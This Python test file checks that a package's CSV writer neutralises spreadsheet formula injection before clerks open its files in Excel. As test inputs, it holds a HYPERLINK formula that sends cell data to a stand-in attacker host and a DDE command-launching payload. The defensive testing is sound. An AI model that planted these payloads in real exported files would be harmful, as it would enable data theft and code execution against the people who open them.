"""CSV files a clerk opens in Excel: no cell can turn into a formula (OWASP's CSV-injection
rule; issue 7, "Outputs are safe to open")."""

from __future__ import annotations

import datetime as dt
import math
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import kpixl
from kpixl.csvout import neutralise, safe_frame, write_csv

DANGEROUS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\tanything",
    "\r=1+1",
    "\ranything",
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "=1+1.xlsx",  # a file name sent by a division
    "+66 81 234 5678",  # a phone number with spaces is text, not a number
    "-",
    "--5",
    "=",
    "@",
    "- 5",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_would_open_as_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "-5",  # plain numbers written as text: Excel reads them as numbers, not formulas
        "+66",
        "-0.5",
        "+.5",
        "-12.",
        "85",
        "กองคลัง",
        "FIN_clean.xlsx",
        " =1+1",  # a leading space: Excel does not evaluate it
        "a=1+1",
        "",
        "'=1+1",  # already neutral
    ],
)
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


@pytest.mark.parametrize(
    "value",
    [-5, -5.5, 0, math.nan, None, True, dt.date(2021, 12, 30), pd.Timestamp("2021-12-30")],
)
def test_values_that_are_not_text_are_left_alone(value: Any) -> None:
    got = neutralise(value)
    assert got is value or (isinstance(value, float) and math.isnan(got))  # type: ignore[arg-type]


def test_safe_frame_neutralises_every_text_column_and_nothing_else() -> None:
    frame = pd.DataFrame(
        {
            "source": ["=1+1.xlsx", "ok.xlsx", "@x.xlsx"],
            "message_th": ["ค่า -5 ไม่ถึงเกณฑ์", "-2+3", "ปกติ"],
            "value": ["-5", "+66", "=cmd|' /C calc'!A0"],
            "score": [-5.0, 82.8, math.nan],
            "level": pd.array([1, None, 5], dtype="Int64"),
            "name": pd.array(["+1+1", None, "กองช่าง"], dtype="string"),
        }
    )
    before = frame.copy()
    safe = safe_frame(frame)
    pd.testing.assert_frame_equal(frame, before)  # the input is not touched
    assert safe["source"].tolist() == ["'=1+1.xlsx", "ok.xlsx", "'@x.xlsx"]
    assert safe["message_th"].tolist() == ["ค่า -5 ไม่ถึงเกณฑ์", "'-2+3", "ปกติ"]
    assert safe["value"].tolist() == ["-5", "+66", "'=cmd|' /C calc'!A0"]
    pd.testing.assert_series_equal(safe["score"], frame["score"])
    pd.testing.assert_series_equal(safe["level"], frame["level"])
    assert safe["name"].tolist()[0] == "'+1+1"
    assert pd.isna(safe["name"].tolist()[1])


def test_write_csv_is_excel_readable_and_safe(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"source": ["=1+1.xlsx", "กองคลัง.xlsx"], "total": [4.14, math.nan], "note": ["-5", "\t="]}
    )
    path = tmp_path / "findings.csv"
    write_csv(frame, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: Excel then reads the Thai
    text = raw.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "source,total,note"
    assert lines[1] == "'=1+1.xlsx,4.14,-5"
    assert lines[2].startswith("กองคลัง.xlsx,,")
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back["note"].tolist() == ["-5", "'\t="]
    # no cell of the file starts like a formula
    for cell in back.to_numpy().ravel():
        assert neutralise(cell) == cell or cell.startswith("'")
    assert list(tmp_path.iterdir()) == [path]  # written atomically: no temp file left


def test_every_csv_kpixl_writes_goes_through_csvout() -> None:
    """No module writes a CSV of its own: every one is neutralised the same way."""
    package = Path(kpixl.__file__).resolve().parent
    writers = {}
    for path in package.rglob("*.py"):
        if path.name == "csvout.py":
            continue
        text = path.read_text(encoding="utf-8")
        found = re.findall(r"\.to_csv\(|csv\.writer|csv\.DictWriter", text)
        if found:
            writers[str(path.relative_to(package))] = found
    assert writers == {}
